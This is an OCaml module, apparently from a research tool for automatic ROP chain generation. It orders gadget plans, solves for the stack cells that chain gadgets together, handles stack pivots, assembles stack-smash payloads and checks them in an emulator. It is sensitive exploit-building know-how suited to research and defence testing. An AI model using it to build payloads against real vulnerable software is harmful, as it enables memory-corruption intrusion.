(* Post-processing (paper §IV stage 4): linearize a complete partial-order
   plan and emit the concrete stack payload.

   All bookkeeping is in ABSOLUTE addresses: the exploit scenario fixes
   the payload base (Layout), so the word the smashed return address
   occupies is [Layout.payload_base], chain cells follow it, and
   pinned-pointer cells (frame reads, double indirections) live deeper in
   the payload.  A chain may pivot the stack (leave-style gadgets): after
   a pivot, the cursor continues from the pinned frame address.

   Every emitted payload is finally validated by concrete execution. *)

open Gp_smt

type chain = {
  c_goal : Goal.concrete;
  c_steps : Plan.step list;     (* execution order; goal step last *)
  c_payload : int64 array;      (* word 0 sits at Layout.payload_base *)
}

exception Infeasible of string

let filler = 0x4141414141414141L

(* Topological order with the goal step forced last. *)
let linearize (p : Plan.t) : Plan.step list =
  let goal = List.find (fun s -> s.Plan.is_goal) p.Plan.steps in
  let orderings =
    List.fold_left
      (fun acc (s : Plan.step) ->
        if s.Plan.sid = goal.Plan.sid then acc
        else (s.Plan.sid, goal.Plan.sid) :: acc)
      p.Plan.orderings p.Plan.steps
  in
  let sids = List.map (fun s -> s.Plan.sid) p.Plan.steps in
  let rec kahn remaining edges acc =
    match remaining with
    | [] -> List.rev acc
    | _ ->
      let ready =
        List.filter
          (fun s -> not (List.exists (fun (_, b) -> b = s) edges))
          remaining
      in
      (match ready with
       | [] -> raise (Infeasible "ordering cycle")
       | s :: _ ->
         kahn
           (List.filter (fun x -> x <> s) remaining)
           (List.filter (fun (a, _) -> a <> s) edges)
           (s :: acc))
  in
  let order =
    kahn sids
      (List.filter (fun (a, b) -> List.mem a sids && List.mem b sids) orderings)
      []
  in
  List.map (Plan.find_step p) order

(* Solve [term = value] for a single payload-controlled variable: either a
   stack slot (relative cell) or a resolved memory read (absolute cell). *)
let inv64 k =
  let rec newton x n =
    if n = 0 then x else newton (Int64.mul x (Int64.sub 2L (Int64.mul k x))) (n - 1)
  in
  newton k 6

let solve_target (s : Plan.step) term value =
  match Term.linearize term with
  | Some { Term.lin_const = c; lin_terms = [] } ->
    if c = value then `Trivial else `Unsolvable
  | Some { Term.lin_const = c; lin_terms = [ (v, k) ] } when Int64.logand k 1L = 1L
    -> (
    let cell_value = Int64.mul (Int64.sub value c) (inv64 k) in
    match Gp_symx.State.slot_of_var v with
    | Some off -> `Slot (off, cell_value)
    | None -> (
      match List.assoc_opt v s.Plan.mem_cells with
      | Some abs -> `Abs (abs, cell_value)
      | None -> `Unsolvable))
  | _ -> `Unsolvable

let build (p : Plan.t) (goal : Goal.concrete) : chain =
  let steps = linearize p in
  let cells : (int64, int64) Hashtbl.t = Hashtbl.create 64 in
  let runtime : (int64, unit) Hashtbl.t = Hashtbl.create 16 in
  let bind addr v =
    if not (Layout.in_payload addr) then
      raise (Infeasible "cell outside the payload region");
    if Hashtbl.mem runtime addr then
      raise (Infeasible "payload cell is overwritten at run time");
    match Hashtbl.find_opt cells addr with
    | Some v' when v' <> v -> raise (Infeasible "conflicting payload cells")
    | _ -> Hashtbl.replace cells addr v
  in
  (* A runtime write poisons a cell for all LATER binds (later steps'
     payload reads).  Binds already made — including this same step's own
     reads, which symbolic execution proved happen before the write — are
     unaffected. *)
  let mark_runtime addr =
    if Layout.in_payload addr then Hashtbl.replace runtime addr ()
  in
  let n = List.length steps in
  (* the cursor: absolute address of each gadget's entry rsp *)
  let pbase = Layout.payload_base () in
  let entry = ref (Int64.add pbase 8L) in
  List.iteri
    (fun i (s : Plan.step) ->
      let g = s.Plan.gadget in
      let abs off = Int64.add !entry (Int64.of_int off) in
      List.iter (fun (off, v) -> bind (abs off) v) s.Plan.bindings;
      List.iter (fun (a, v) -> bind a v) s.Plan.abs_bindings;
      (* transfer to the next gadget *)
      (if i < n - 1 then begin
         let next = (List.nth steps (i + 1)).Plan.gadget.Gadget.addr in
         let target =
           match g.Gadget.jmp with
           | Gp_symx.Exec.Jret t | Gp_symx.Exec.Jind t -> t
           | Gp_symx.Exec.Jfall _ ->
             raise (Infeasible "syscall gadget in chain interior")
         in
         match solve_target s target next with
         | `Trivial -> ()
         | `Slot (off, v) -> bind (abs off) v
         | `Abs (a, v) -> bind a v
         | `Unsolvable ->
           raise (Infeasible "jump target not payload-controllable")
       end);
      (* runtime stack writes must not collide with payload cells *)
      List.iter (fun (off, _) -> mark_runtime (abs off)) g.Gadget.stack_writes;
      List.iter mark_runtime s.Plan.write_addrs;
      (* advance the stack cursor *)
      (match g.Gadget.stack_delta with
       | Gadget.Sdelta d -> entry := abs d
       | Gadget.Spivot d -> (
         (* after a frame pivot, execution continues at rbp_entry + d *)
         let rbp =
           List.find_map
             (function Plan.Creg (r, v) when r = Gp_x86.Reg.RBP -> Some v | _ -> None)
             s.Plan.demands
         in
         match rbp with
         | Some v -> entry := Int64.add v (Int64.of_int d)
         | None -> raise (Infeasible "pivot with unconstrained rbp"))
       | Gadget.Sunknown ->
         if i < n - 1 then raise (Infeasible "unknown stack delta mid-chain")))
    steps;
  (* goal memory cells inside the payload arrive with the smashed stack *)
  List.iter (fun (a, v) -> if Layout.in_payload a then bind a v) goal.Goal.mem;
  (* assemble the word array *)
  let first = (List.hd steps).Plan.gadget.Gadget.addr in
  bind pbase first;
  let max_addr = Hashtbl.fold (fun a _ acc -> max a acc) cells pbase in
  let nwords = (Int64.to_int (Int64.sub max_addr pbase) / 8) + 1 in
  let payload =
    Array.init nwords (fun k ->
        match Hashtbl.find_opt cells (Int64.add pbase (Int64.of_int (8 * k))) with
        | Some v -> v
        | None -> filler)
  in
  { c_goal = goal; c_steps = steps; c_payload = payload }

let build_opt p goal = try Some (build p goal) with Infeasible _ -> None

(* ----- end-to-end validation ----- *)

(* Execute the payload exactly as a stack smash would: the payload's word
   0 sits where a saved return address was, and control arrives via that
   return.  Registers start zeroed (the attacker does not control them).

   Returns the raw machine outcome so callers can tell a chain that
   CRASHED ([Fault]) from one that merely ran out of fuel ([Timeout]) —
   conflating them would misreport budget exhaustion as broken chains.
   Writing the payload can itself fault (a payload long enough to run
   past the mapped stack region); that is the chain's failure, not the
   pipeline's, so it is folded into [Fault] here. *)
let validate_run ?(fuel = 1_000_000) (image : Gp_util.Image.t) (c : chain) :
    Gp_emu.Machine.outcome =
  try
    let m = Gp_emu.Machine.create image in
    let pbase = Layout.payload_base () in
    Array.iteri
      (fun k w ->
        Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
          (Int64.add pbase (Int64.of_int (8 * k)))
          w)
      c.c_payload;
    m.Gp_emu.Machine.rip <- c.c_payload.(0);
    Gp_emu.Machine.set_rsp m (Int64.add pbase 8L);
    (* fault-injection fuse keyed on the chain (its gadget sequence),
       not on how many validations ran before this one — so an injection
       schedule hits the same chains whatever order they are validated
       in, here or in requests running beside this one *)
    let fuse_key =
      Hashtbl.hash
        (List.map (fun s -> s.Plan.gadget.Gadget.addr) c.c_steps)
    in
    Gp_emu.Machine.run ~fuel ~fuse_key m
  with Gp_emu.Memory.Fault m -> Gp_emu.Machine.Fault ("payload write: " ^ m)

let validate ?fuel (image : Gp_util.Image.t) (c : chain) : bool =
  Goal.satisfied c.c_goal (validate_run ?fuel image c)

(* Chains are "the same" when they use the same gadget addresses in the
   same order. *)
let chain_key (c : chain) =
  String.concat ","
    (List.map (fun s -> Printf.sprintf "%Lx" s.Plan.gadget.Gadget.addr) c.c_steps)

(* Coarser identity: the SET of gadgets used.  Two linearizations of the
   same partial order are one payload, not two (this is how distinct
   payloads are counted in the experiments). *)
let chain_set_key (c : chain) =
  String.concat ","
    (List.sort_uniq compare
       (List.map (fun s -> Printf.sprintf "%Lx" s.Plan.gadget.Gadget.addr) c.c_steps))

let describe (c : chain) =
  let buf = Buffer.create 256 in
  Buffer.add_string buf
    (Printf.sprintf "chain for %s: %d gadgets, %d payload words\n"
       (Goal.name c.c_goal.Goal.goal) (List.length c.c_steps)
       (Array.length c.c_payload));
  List.iter
    (fun (s : Plan.step) ->
      Buffer.add_string buf ("  " ^ Gadget.to_string s.Plan.gadget ^ "\n"))
    c.c_steps;
  Buffer.add_string buf "  payload: ";
  Array.iteri
    (fun k w ->
      if k < 16 then Buffer.add_string buf (Printf.sprintf "%Lx " w))
    c.c_payload;
  if Array.length c.c_payload > 16 then Buffer.add_string buf "...";
  Buffer.add_string buf "\n";
  Buffer.contents buf
